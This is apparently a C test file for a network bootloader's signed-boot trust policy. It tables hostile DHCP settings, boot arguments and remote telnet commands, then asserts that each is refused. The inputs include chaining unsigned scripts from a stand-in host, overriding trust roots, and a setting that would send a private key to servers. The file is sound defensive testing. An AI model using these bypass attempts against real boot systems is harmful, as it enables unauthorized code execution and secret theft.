/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Attacks on `trust-policy=signed` (docs/security.md lists them) by who has read the documents alone: on the wire,
 * with a server, far away by telnet.  None may run /evil, a script, or /kernel; nor leave for the BIOS.
 */
#include <string.h>

#include "tests/world/check.h"
#include "tests/world/far.h"
#include "tests/world/kernels.h"
#include "tests/world/machine.h"
#include "tests/world/pc.h"
#include "tests/world/signed_files.h"

#define SECOND 1000000ull
#define OTHER "00" SIGNED_ROOT_REST
#define EVIL "http://files.test/evil"
#define RAN "this is evil"

static const char evil[] = "#!ipxe\necho " RAN "\n";
static const char evil_config[] = "SAY " RAN "\nDEFAULT a\nLABEL a\nKERNEL kernel\n";

/* What a DHCP server, or whoever has started us, says; said is one thing that the log has then. */
static const struct wire {
	const char *name, *file, *boot_file, *dhcp, *args, *said;
	bool far;			/* who has no password calls by telnet, and is not let in */
} wires[] = {
	{ "boot file: a script", .boot_file = EVIL, .said = "this script is refused" },
	{ "boot file: a kernel", .boot_file = "http://files.test/kernel", .said = "this kernel is refused" },
	{ "boot file: a script in its own URL", .boot_file = "data:,%23!ipxe%0Aecho%20this%20is%20evil",
	  .said = "this script is refused" },
	{ "boot file by https of nobody's", .boot_file = "https://files.test/evil" },
	{ "boot file: a redirect", .boot_file = "http://files.test/led", .said = "this script is refused" },
	{ "another's signature beside it", .boot_file = "http://files.test/renamed", .said = "this script is refused" },
	{ "a query and a fragment behind the name", .boot_file = EVIL "?/boot.ipxe#/boot.ipxe",
	  .said = "this script is refused" },
	{ "a signed text as a flat binary", .boot_file = "http://files.test/SUMS", .dhcp = "boot-type=raw",
	  .said = "\"boot-type\": under this trust-policy a DHCP server does not set that" },
	{ "a signed text as an NBP", .boot_file = "http://files.test/SUMS", .dhcp = "boot-type=nbp" },
	{ "policy", .boot_file = EVIL, .dhcp = "trust-policy=open", .said = "this script is refused" },
	{ "policy of a link", .boot_file = EVIL, .dhcp = "net0/trust-policy=open netX/trust-policy=open",
	  .said = "this script is refused" },
	{ "policy by a type", .boot_file = EVIL, .dhcp = "trust-policy:hex=6f:70:65:6e" },
	{ "policy by a typeless nonsense", .boot_file = EVIL, .dhcp = "trust-policy:nosuch=open trust-policy=" },
	{ "roots", .boot_file = "http://files.test/boot.ipxe", .file = "trust-clock=refuse",
	  .dhcp = "trust=" OTHER " 175.90=" OTHER " trust-pin=" OTHER " trust-bundle=" OTHER " trust-clock=mend",
	  .said = "the signed one ran" },
	{ "hosts", .boot_file = EVIL, .dhcp = "trust-hosts=* net0/trust-hosts=files.test",
	  .said = "trust-hosts: this setting is refused" },
	{ "list of its own", .boot_file = EVIL, .dhcp = "sha256sums=http://files.test/evil-sums trust-min-issue=0",
	  .said = "sha256sums: this setting is refused" },
	{ "unlock", .boot_file = EVIL, .dhcp = "unlock-password-pbkdf2=1:a:b",
	  .said = "unlock-password-pbkdf2: this setting is refused" },
	{ "mirrors", .boot_file = EVIL, .dhcp = "mirrors=http://files.test/tree/,http://10.0.0.1/" },
	{ "a proxy", .boot_file = EVIL, .dhcp = "http-proxy=http://op:p%40w@10.0.0.1:3128",
	  .said = "this script is refused" },
	{ "pxelinux's tree", .file = "!config-order=pxelinux", .dhcp = "210:string=http://files.test/evil-tree/",
	  .said = "this script is refused" },
	{ "the order, and that tree", .dhcp = "config-order=pxelinux 210:string=http://files.test/evil-tree/" },
	{ "a module from the start", .boot_file = EVIL, .dhcp = "module.autoload=" EVIL },
	{ "a fallback", .boot_file = EVIL, .dhcp = "fallback=" EVIL " fallback-after=1" },
	{ "a fallback to the disk", .boot_file = EVIL, .dhcp = "fallback=disk fallback-after=1" },
	{ "a fallback to the BIOS", .boot_file = EVIL, .dhcp = "fallback=exit fallback-after=1",
	  .said = "\"fallback\": under this trust-policy" },
	{ "telnet without a password", .boot_file = EVIL, .dhcp = "telnetd.insecure=yes", .far = true,
	  .said = "telnetd.insecure: this setting is refused" },
	{ "secrets told to servers", .boot_file = EVIL,
	  .dhcp = "user-agent=${privkey:base64} web.password=mine localboot=disk",
	  .said = "\"user-agent\": under this trust-policy" },
	{ "telnet with the attacker's password", .boot_file = EVIL, .dhcp = "telnetd.password=mine", .far = true,
	  .said = "\"telnetd.password-sha256\": under this trust-policy" },
	{ "arguments", .boot_file = EVIL, .args = "trust-policy=open trust=" OTHER " trust-hosts=* fallback= crl=x",
	  .said = "trust-hosts: this setting is refused" },
	{ "a script that arguments name", .args = "script=" EVIL, .said = "this script is refused" },
	{ "settings written into settings", .boot_file = EVIL,
	  .dhcp = "224:string=trust-policy=open ${x}=y x=trust-policy fn=${trust-policy}",
	  .said = "this script is refused" },
};

static bool has_ended(void)
{
	return pc_said("all is tried again in") || pc_ended();
}

static void serve(void)
{
	pc_file_setting("!trust-policy=signed");
	pc_file_setting("!trust=" SIGNED_ROOT);
	far_serve("/boot.ipxe", signed_script, strlen(signed_script));
	far_serve("/boot.ipxe.sig", script_signature, sizeof(script_signature));
	far_serve("/renamed", evil, strlen(evil));
	far_serve("/renamed.sig", script_signature, sizeof(script_signature));
	far_serve("/SUMS", signed_list, strlen(signed_list));
	far_serve("/SUMS.sig", list_signature, sizeof(list_signature));
	far_serve("/evil", evil, strlen(evil));
	far_serve("/led", evil, strlen(evil))->location = "/evil";
	far_serve("/evil-tree/pxelinux.cfg/default", evil_config, strlen(evil_config));
	kernels_serve(0);
}

static void holds(const void *row)
{
	const struct wire *w = row;

	serve();
	if (w->file)
		pc_file_setting(w->file);
	far_boot_file = w->boot_file ? w->boot_file : "http://files.test/none";
	far_settings = w->dhcp;
	pc_start(w->args);
	CHECK(machine_run(has_ended, 300 * SECOND));
	machine_run(pc_ended, 5 * SECOND);
	if (w->far) {
		far_call_telnet_and_type("mine\r\n", "echo I am in\r\n", 20 * SECOND, false);
		CHECK(!pc_says("I am in", 20 * SECOND));
	}
	CHECK(!pc_ended());
	CHECK(!pc_said(RAN));
	CHECK(!w->said || pc_said(w->said));
}

/* What somebody far away types; each fails, or ends without effect. */
static const char *const typed[] = {
	"set trust-policy open", "clear trust-policy", "set trust-policy:hex 6f:70:65:6e",
	"set net0/trust-policy open", "set netX/trust-policy:string open", "set 175.90 " OTHER,
	"set 0175.90 " OTHER " && clear trust", "set a/b/trust " OTHER, "clear trust", "set trust-hosts files.test",
	"set trust-min-issue 0", "inc trust-hosts", "inc trust-min-issue", "set sha256sums http://files.test/SUMS",
	"imgset trust-hosts " EVIL, "imgset trust-policy:string http://files.test/open",
	"answer trust-policy http://files.test/open", "nslookup trust-hosts files.test", "pciscan trust-hosts",
	"sha256sum --set trust-hosts " EVIL, "foreach trust-policy open -- chain " EVIL,
	"timeout 5 set trust-policy open", "retry 2 set trust-policy open", "time set trust-policy open",
	"chain " EVIL, "chain --replace --autofree " EVIL, "chain data:,%23!ipxe%0Aecho%20this%20is%20evil",
	"chain http://files.test/led", "kernel http://files.test/kernel",
	"kernel --name boot.ipxe http://files.test/kernel", "module " EVIL, "initrd --name /init " EVIL,
	"imgfetch --name boot.ipxe " EVIL " && chain boot.ipxe", "imgverify " EVIL " http://files.test/boot.ipxe.sig",
	"imgfetch --name g http://files.test/boot.ipxe && imgverify g http://files.test/boot.ipxe.sig && "
	"imgfree g && imgfetch --name g " EVIL " && imgexec g",
	"imgtrust --allow && chain " EVIL, "imgmem --name m 0x100000 64 && imgexec m",
	"imgextract " EVIL " && chain evil", "sanboot", "sanboot --partition 1", "chain.c32 hd0",
	"linux.c32 http://files.test/kernel", "mboot.c32 http://files.test/kernel",
	"pxechn.c32 http://files.test/nbp", "run " EVIL,
	"pxelinux --prefix http://files.test/evil-tree/ pxelinux.cfg/default", "freebsd http://files.test/evil-tree/",
	"set mirrors http://files.test/evil-tree/ && chain " EVIL, "set username a && set trust-hosts *", "unlock",
	"set http-proxy http://op:p%40w@10.0.0.1:3128 && chain " EVIL, "certstore " EVIL, "imgset trust " EVIL,
	"menu && item open && choose --timeout 100 trust-policy", "set fallback exit && set trust-policy open",
	"set 224:string trust-policy=open && dhcp && set trust-policy open", "crash shell",
};

static void holds_far_away(void *arg)
{
	char line[600], shut[20];

	(void)arg;
	serve();
	pc_file_setting("!telnetd.insecure=yes");
	far_serve("/open", "open", 4);
	far_boot_file = "http://files.test/none";
	pc_start(NULL);
	CHECK(machine_run(has_ended, 120 * SECOND));
	far_call_telnet();
	machine_run(pc_ended, 5 * SECOND);
	for (unsigned i = 0; i < sizeof(typed) / sizeof(typed[0]); i++) {
		snprintf(line, sizeof(line), "%s || echo shut %u\r\n", typed[i], i);
		snprintf(shut, sizeof(shut), "\nshut %u\n", i);
		far_telnet_say(line);
		if (strcmp(typed[i], "crash shell") ? !pc_says(shut, 60 * SECOND) : !pc_says("started again", SECOND)) {
			fprintf(stderr, "not refused: %s\n", typed[i]);
			abort();
		}
	}
	far_telnet_say("set trust-policy open || echo still shut\r\n");
	CHECK(pc_says("\nstill shut\n", 10 * SECOND));
	CHECK(!pc_ended());
	CHECK(!pc_said("\n" RAN));
}

static bool far_away(const void *arg)
{
	(void)arg;
	return machine_alone(holds_far_away, NULL);
}

int main(int argc, char **argv)
{
	const struct test tests[] = { { "far_away", far_away, NULL } };
	const char *only = argc > 1 ? argv[1] : NULL;
	bool is_far = only && !strcmp(only, tests[0].name);
	int bad = is_far ? 0 : machine_rows(holds, wires, sizeof(wires[0]), sizeof(wires) / sizeof(wires[0]), only);

	return bad || (only && !is_far) ? bad : run_tests(tests, 1, only);
}
